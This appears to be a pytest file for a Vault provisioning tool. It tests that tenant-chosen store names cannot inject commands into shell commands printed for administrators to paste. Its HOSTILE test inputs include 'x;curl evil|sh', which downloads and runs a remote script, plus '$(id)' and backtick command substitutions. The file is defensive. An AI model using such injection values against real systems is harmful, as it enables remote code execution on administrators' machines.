"""Commands that are printed for people to paste."""

from __future__ import annotations

import shlex

import pytest

from vaultprov.doctor.checks.remedies import config_path, role_path
from vaultprov.doctor.stores import Store

HOSTILE = ("x;curl evil|sh", "$(id)", "a b", "`id`", "x' 'y", "x\ny")


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_tenant_wrote_is_one_word(name: str) -> None:
    """Whoever may write a store must not choose what an administrator's shell runs."""
    store = Store("SecretStore", "s", "n", "https://v", "kv", "v2", ("kubernetes",), name, name)
    assert shlex.split(f"vault write {role_path(store)} a=b")[2] == f"auth/{name}/role/{name}"
    assert shlex.split(f"vault read {config_path(name)}")[2] == f"auth/{name}/config"
